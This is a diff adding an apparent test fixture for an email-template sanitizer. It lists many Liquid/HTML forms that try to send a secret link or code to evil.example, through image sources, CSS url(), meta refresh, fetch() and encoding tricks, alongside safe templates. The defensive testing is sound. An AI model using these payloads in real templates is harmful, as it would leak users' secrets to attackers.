@@ -1,0 +1,295 @@
+// Lists forms in which whoever edits a sensitive template may try to have its secret sent to a host of his own.
+
+export interface HostileForm {
+  readonly content: string;
+  readonly contentType?: 'TEXT' | 'HTML';
+  readonly subject?: string;
+  readonly textContent?: string;
+  /** Stands around the content. */
+  readonly layout?: string;
+  /** Can be rendered as `stolen.part`. */
+  readonly partial?: string;
+}
+
+const EVIL = 'https://evil.example/';
+const SPELLED = '{% for i in (0..130) %}{% case link[i] %}{% when "a" %}a{% when "b" %}b{% endcase %}{% endfor %}';
+const ASKED = '{% if link contains "a" %}a{% endif %}';
+const SOME = '{% if link %}a{% endif %}';
+
+const withinAttributes = [
+  `<img src="${EVIL}${SPELLED}">`,
+  `<img src="${EVIL}${ASKED}">`,
+  `<img src="${EVIL}${SOME}">`,
+  `<img src="${EVIL}{{ link }}">`,
+  `<img src="{{ link }}">`,
+  `<img src='cid:a' alt='{{ link }}'>`,
+  `<img srcset="${EVIL}${SPELLED} 1x">`,
+  `<img src="cid:a" title="${SPELLED}">`,
+  `<p title="${ASKED}">x</p>`,
+  `<a href="${EVIL}${SPELLED}">x</a>`,
+  `<a href="${EVIL}{{ link }}">x</a>`,
+  `<a href="{{ link }}&x=1">x</a>`,
+  `<a href=" {{ link }}">x</a>`,
+  `<a href="{{ link }}{{ code }}">x</a>`,
+  `<a href="{{ link }}" ping="${EVIL}${SPELLED}">x</a>`,
+  `<a href="{{ link }}" ping="${EVIL}">x</a>`,
+  `<a href="${EVIL}${ASKED}">x</a>`,
+  `<a href="mailto:x@evil.example?body={{ link }}">x</a>`,
+  `<area href="{{ link }}">`,
+  `<table background="${EVIL}${SPELLED}"><tr><td>x</td></tr></table>`,
+  `<body background="${EVIL}${SOME}"><p>x</p></body>`,
+  `<p id="{{ link }}">x</p>`,
+  `<p id="${ASKED}">x</p>`,
+  `<p class="${SPELLED}">x</p>`,
+  `<p lang="{{ code }}">x</p>`,
+  `</p title="{{ link }}">`,
+  `<p title="a" title="{{ link }}">x</p>`,
+];
+const betweenAttributes = [
+  `<img {% if link contains "a" %}src="${EVIL}a"{% endif %}>`,
+  `<img {% if link %}src="${EVIL}a"{% endif %}>`,
+  `<p {% if link contains "a" %}class="a"{% else %}class="b"{% endif %}>x</p>`,
+  `<p {% if link %}style="background:url(${EVIL})"{% endif %}>x</p>`,
+  `<p {% for i in (0..9) %}title="{{ link[i] }}"{% endfor %}>x</p>`,
+  `<p {{ link }}>x</p>`,
+  `<p data-{{ code }}="x">x</p>`,
+  `<p {% if link %}hidden{% endif %}>x</p>`,
+  `<{% if link %}p{% else %}b{% endif %}>x</p>`,
+  `<{% if link %}img src="${EVIL}"{% endif %}>`,
+  `{% if link %}<{% endif %}img src="${EVIL}">`,
+  `<i{% if link %}mg src="${EVIL}"{% endif %}>`,
+  `<{{ code }}>x`,
+  `<p {%- if link %} title="a" {%- endif %}>x</p>`,
+];
+const styles = [
+  `<p style="background:url(${EVIL}{{ link }})">x</p>`,
+  `<p style="background-image:url(${EVIL})">x</p>`,
+  `<p style="color:red;background:url('${EVIL}${SPELLED}')">x</p>`,
+  `<p style="${SOME}">x</p>`,
+  `<p style="color:{% if link contains 'a' %}red{% else %}blue{% endif %}">x</p>`,
+  `<p style="color:{{ code }}">x</p>`,
+  `<p style="background-color:image('${EVIL}')">x</p>`,
+  `<p style="color:image(${EVIL})">x</p>`,
+  `<p style="background-color:\\75\\72\\6c(${EVIL})">x</p>`,
+  `<p style="color:u\\rl(${EVIL})">x</p>`,
+  `<p style="color:&#117;&#114;&#108;&#40;${EVIL})">x</p>`,
+  `<p style="color:red/**/;b/**/ackground:url(${EVIL})">x</p>`,
+  `<p style="color:image-set('${EVIL}' 1x)">x</p>`,
+  `<p style="color:-webkit-image-set(url(${EVIL}) 1x)">x</p>`,
+  `<p style="color:cross-fade(url(${EVIL}), red)">x</p>`,
+  `<p style="color:src('${EVIL}')">x</p>`,
+  `<p style="list-style:url(${EVIL})">x</p>`,
+  `<p style="cursor:url(${EVIL}),auto">x</p>`,
+  `<p style="content:url(${EVIL})">x</p>`,
+  `<p style="border-image:url(${EVIL})">x</p>`,
+  `<p style="font-family:'a;background:url(${EVIL})'">x</p>`,
+  `<p style="--a:url(${EVIL})">x</p>`,
+  `<p style="color:var(--a)">x</p>`,
+  `<p STYLE="BACKGROUND:URL(${EVIL})">x</p>`,
+  `<p style="@import '${EVIL}'">x</p>`,
+  `<style>@import "${EVIL}${SPELLED}";</style><p>x</p>`,
+  `<style>@import url(${EVIL});</style><p>x</p>`,
+  `<style>p{background:url(${EVIL})}</style><p>{{ link }}</p>`,
+  `<style>{% if link contains "a" %}p{color:red}{% endif %}</style><p>x</p>`,
+  `<style>a[href*="token=a"]{background:url(${EVIL}a)}</style><a href="{{ link }}">x</a>`,
+  `<style>@font-face{font-family:f;src:url(${EVIL});unicode-range:U+61}</style><p style="font-family:f">{{ link }}</p>`,
+  `<style>p::before{content:"{{ link }}"}</style><p>x</p>`,
+  `<STYLE>{{ link }}</STYLE>`,
+  `<link rel="stylesheet" href="${EVIL}${SPELLED}">`,
+  `<link rel=preload as=image href="${EVIL}">`,
+  `<link rel="dns-prefetch" href="//{{ code }}.evil.example">`,
+  `{% if link contains "a" %}<link rel="stylesheet" href="${EVIL}a">{% endif %}`,
+];
+const otherTrees = [
+  `<select><style>{{ link }}</style></select>`,
+  `<select><style><img src="${EVIL}{{ link }}"></style></select>`,
+  `<svg><style>{{ link }}</style></svg>`,
+  `<svg><image href="${EVIL}{{ link }}"/></svg>`,
+  `<svg><a xlink:href="{{ link }}">x</a></svg>`,
+  `<math><mtext><table><mglyph><style><img src="${EVIL}{{ link }}">`,
+  `<math href="{{ link }}">x</math>`,
+  `<noscript><p title="</noscript><img src=${EVIL}>">{{ link }}</noscript>`,
+  `<textarea>{{ link }}</textarea>`,
+  `<xmp>{{ link }}</xmp>`,
+  `<plaintext>{{ link }}`,
+  `<noembed>{{ link }}</noembed>`,
+  `<template><p>{{ link }}</p></template>`,
+  `<iframe srcdoc="<img src='${EVIL}{{ link }}'>"></iframe>`,
+  `<script>fetch("${EVIL}{{ link }}")</script>`,
+  `<p onmouseover="fetch('${EVIL}')">{{ link }}</p>`,
+  `<![CDATA[{{ link }}]]><p>x</p>`,
+  `<!DOCTYPE {{ link }}><p>x</p>`,
+  `<?xml {{ link }}?><p>x</p>`,
+  `<title>{% if link %}a{% endif %}</title>`,
+  `<frameset><frame src="${EVIL}{{ link }}"></frameset>`,
+  `<image src="${EVIL}{{ link }}">`,
+  `<image src="${EVIL}">`,
+  `<base href="${EVIL}"><a href="{{ link }}">x</a>`,
+  `<BASE HREF="${EVIL}"><p>x</p>`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}{{ link }}">`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
+  `<META HTTP-EQUIV=Refresh CONTENT="0; URL=${EVIL}">`,
+  `<meta http-equiv="re&#102;resh" content="0;url=${EVIL}">`,
+  `<meta name="msapplication-config" content="${EVIL}">`,
+  `<form action="${EVIL}"><input name="t" value="{{ link }}"><button>Go</button></form>`,
+  `<button formaction="${EVIL}">{{ link }}</button>`,
+  `<input type="image" src="${EVIL}">`,
+  `<video poster="${EVIL}{{ link }}"></video>`,
+  `<audio src="${EVIL}"></audio>`,
+  `<object data="${EVIL}{{ link }}"></object>`,
+  `<embed src="${EVIL}{{ link }}">`,
+  `<bgsound src="${EVIL}">`,
+  `<marquee>{{ link }}</marquee>`,
+  `<ImG sRc="${EVIL}${SPELLED}">`,
+  `<img/src="${EVIL}${SPELLED}"/>`,
+  `<img src="//evil.example/${SPELLED}">`,
+  `<img src="&#104;ttps://evil.example/${SPELLED}">`,
+  `<img src="http&colon;//evil.example/a">`,
+  `<img src="\\\\evil.example\\a">`,
+  `<img src="${EVIL}logo.png">`,
+  `<a href="${EVIL}">x</a>`,
+  `<a href="javascript:fetch('${EVIL}')">x</a>`,
+  `<b>{% if link %}<i></b>{% endif %}</i>`,
+  `<p>{% if link %}<b>{% endif %}x</b></p>`,
+];
+const comments = [
+  `<!-- {{ link }} --><p>x</p>`,
+  `<!-- {% if link %} --><p>x</p><!-- {% endif %} -->`,
+  `<!--[if mso]><img src="${EVIL}{{ link }}"><![endif]--><p>x</p>`,
+  `<!--[if mso]><p>x</p><![endif]-->`,
+  `<p>{% if link %}<!--{% endif %}<img src="cid:a">--></p>`,
+  `<!--\uFDD00\uFDD1--><p>{{ link }}</p>`,
+  `<a href="\uFDD00\uFDD1">x</a>`,
+];
+const values = [
+  `<p>{{ link[0] }}</p>`,
+  `<p>{{ link.parts[0] }}</p>`,
+  `<p>{{ link["size"] }}</p>`,
+  `<p>{{ link | slice: 0, 3 }}</p>`,
+  `<p>{{ link | url_encode }}</p>`,
+  `<p>{{ link | default: "" }}</p>`,
+  `<p>{{ link | date_local }}</p>`,
+  `<p>{{ "a" | append: link }}</p>`,
+  `<p>{{ (1..3) }}</p>`,
+  `{% echo link %}<p>x</p>`,
+  `{% assign x = link %}<p>{{ x }}</p>`,
+  `{% capture x %}{{ link }}{% endcapture %}<p>x</p>`,
+  `{% for c in link %}<p>x</p>{% endfor %}`,
+  `{% for i in (0..9) %}<p>{{ link }}</p>{% endfor %}`,
+  `{% case link %}{% when "a" %}<p>x</p>{% endcase %}`,
+  `{% if link == "a" %}<p>x</p>{% endif %}`,
+  `{% if link contains "a" %}<p>x</p>{% endif %}`,
+  `{% if link.size > 10 %}<p>x</p>{% endif %}`,
+  `{% if link and code == "1" %}<p>x</p>{% endif %}`,
+  `{% if code %}<p>x</p>{% elsif link contains "a" %}<p>y</p>{% endif %}`,
+  `{% unless link contains "a" %}<p>x</p>{% endunless %}`,
+  `{% if link[0] %}<p>x</p>{% endif %}`,
+  `{% cycle link, "a" %}<p>x</p>`,
+  `{% increment link %}<p>x</p>`,
+  `{% tablerow i in link %}{{ i }}{% endtablerow %}`,
+  `{% liquid echo link %}<p>x</p>`,
+  `{% include link %}<p>x</p>`,
+  `{% include "stolen.part" %}<p>x</p>`,
+];
+const words = [
+  `<p>${EVIL}{{ link }}</p>`,
+  `<p>${EVIL}<b>{{ link }}</b></p>`,
+  `<p>${EVIL}<img src="cid:a">{{ link }}</p>`,
+  `<p>${EVIL} {{- link }}</p>`,
+  `<p>${EVIL}{% if code %} {% endif %}{{ link }}</p>`,
+  `<p>{% if code %}${EVIL}{% else %}x {% endif %}{{ link }}</p>`,
+  `<p>${EVIL}{% comment %} {% endcomment %}{{ link }}</p>`,
+  `<p>${EVIL}&nbsp;{{ link }}</p>`,
+  `<p>${EVIL}&#8203;{{ link }}</p>`,
+  `<p>{{ code }}.evil.example</p>`,
+  `<p>{{ code }}@evil.example</p>`,
+  `<p>{{ code }}<b>.evil.example</b></p>`,
+  `<p>{{ code }}{% if link %}.evil.example{% endif %}</p>`,
+  `<p>{{ code }}{{ link }}</p>`,
+  `<p>{{ "https://evil.example/" }}{{ link }}</p>`,
+  `<p>\\\\evil.example\\{{ link }}</p>`,
+];
+const texts: readonly HostileForm[] = [
+  `${EVIL}{{ link }}`,
+  `${EVIL}{% if code %} {% endif %}{{ link }}`,
+  `{{ code }}.evil.example`,
+  `${EVIL}${SPELLED}`,
+  `{% if link contains "a" %}${EVIL}a{% endif %}`,
+  `${EVIL} {{- link }}`,
+  `mailto:x@evil.example?body={{ link }}`,
+].flatMap((source) => [
+  { content: source, contentType: 'TEXT' },
+  { content: '{{ link }}', contentType: 'TEXT', subject: source },
+  { content: '<p>{{ link }}</p>', textContent: source },
+]);
+const around: readonly HostileForm[] = [
+  { content: '<p>{{ link }}</p>', layout: `<img src="${EVIL}${SPELLED}">{% content %}` },
+  { content: '<p>{{ link }}</p>', layout: `<img src="${EVIL}">{% content %}` },
+  { content: '{{ link }}', layout: `<img src="${EVIL}{% content %}">` },
+  { content: '{{ link }}', layout: `<p>${EVIL}{% content %}</p>` },
+  { content: '{{- link }}', layout: `<p>${EVIL} {% content %}</p>` },
+  { content: '{{ link }}', layout: `<p>{% content %}.evil.example</p>` },
+  { content: '{{ link }}', layout: `<a href="{% content %}">x</a>` },
+  { content: '{{ link }}', layout: `<style>{% content %}</style>` },
+  { content: '<p>{{ link }}</p>', layout: `<base href="${EVIL}">{% content %}` },
+  { content: '<p>{{ link }}</p>', layout: `{% if code == "1" %}<img src="${EVIL}1">{% endif %}{% content %}` },
+  { content: '{% if link %}', layout: `<p>{% content %}</p>` },
+  { content: `<p>{% render 'stolen.part' %}</p>`, partial: `<img src="${EVIL}">` },
+  { content: `<p>{% render 'stolen.part' %}</p>`, partial: '<p>{{ link }}</p>' },
+  { content: `<p>{% render 'stolen.part', link: link %}</p>`, partial: '<p>x</p>' },
+  { content: `<p>{% render 'stolen.part' with link %}</p>`, partial: '<p>x</p>' },
+  { content: `<p>{% render 'stolen.part' for link as c %}</p>`, partial: '<p>x</p>' },
+  { content: `<p>{% render 'stolen.part' %}{{ link }}</p>`, partial: EVIL },
+  { content: `<p>{{ code }}{% render 'stolen.part' %}</p>`, partial: '.evil.example' },
+  { content: `<{% render 'stolen.part' %}>`, partial: `img src="${EVIL}"` },
+  { content: `<img alt="{% render 'stolen.part' %}">`, partial: 'x' },
+  { content: `{% if code %}<p>{% render 'stolen.part' %}</p>{% endif %}`, partial: `<img src="${EVIL}">` },
+];
+
+export const hostileForms: readonly HostileForm[] = [
+  ...[...withinAttributes, ...betweenAttributes, ...styles, ...otherTrees, ...comments, ...values, ...words].map(
+    (content) => ({ content }),
+  ),
+  ...texts,
+  ...around,
+];
+
+/** Lists what somebody may say with a secret, in every way that is left. */
+export const lawfulForms: readonly HostileForm[] = [
+  { content: 'Hello {{ name }},\n\nyour code is {{ code }}. Open ({{ link }})!\n', contentType: 'TEXT' },
+  {
+    content: '{{ name }}’s code: "{{ code }}", {% if minutes %}for {{ minutes }} minutes{% endif %}.',
+    contentType: 'TEXT',
+  },
+  { content: '<p>{{ link }}</p>', subject: '[{{ code }}] for {{ name }}' },
+  { content: '<p>Hello {% if name %}{{ name }}{% else %}you{% endif %}, <a href="{{ link }}">open</a>.</p>' },
+  {
+    content:
+      '{% if none %}<p>{{ none }}</p>{% elsif link %}<p>{{ link }}</p>{% endif %}{% comment %}{{ link[0] }}{% endcomment %}',
+  },
+  {
+    content:
+      '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#fff">' +
+      '{% if code %}<tr><th>Code:</th><td valign="top">{{ code }}</td></tr>{% endif %}</table>' +
+      `<a href="{{ link }}" target="_blank" style="display:inline-block; color: rgb(1, 2, 3); font-family: 'Segoe UI', Arial">Open</a> ` +
+      '<a href="mailto:help@mail.example">Help</a> <a href="tel:+4912345">Call</a>',
+  },
+  { content: '<a href="{{ link }}"><b>Open</b></a><p>{{ code }}</p>', textContent: '{{ code }}\n{{ link }}\n' },
+  { content: "<p>{% render 'stolen.part' %} {{ link }}</p>", partial: '<b>Yours</b>' },
+  { content: "<table>{% render 'stolen.part' %}</table>{{ link }}", partial: '<tr><td>Yours</td></tr>' },
+  {
+    content: '<p>{{ link }}</p>',
+    layout:
+      '<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">' +
+      '<title>Mail</title></head><body style="margin:0"><div>{% content %}</div></body></html>',
+  },
+  {
+    content: '<p>{{ link }}</p>',
+    layout: '<img src="data:image/png;base64,AAAA" alt="Logo" width="10">{% content %}<hr>',
+  },
+  // What stands where no program reads it is not in the mail, and what has no quotes gets them.
+  { content: '<td background="https://evil.example/">{{ link }}</td>' },
+  { content: '<p>{{ link }}</p title="https://evil.example/">' },
+  { content: '<p title="a" title="https://evil.example/">{{ link }}</p>' },
+  { content: '<a href={{ link }}>Open</a>' },
+];
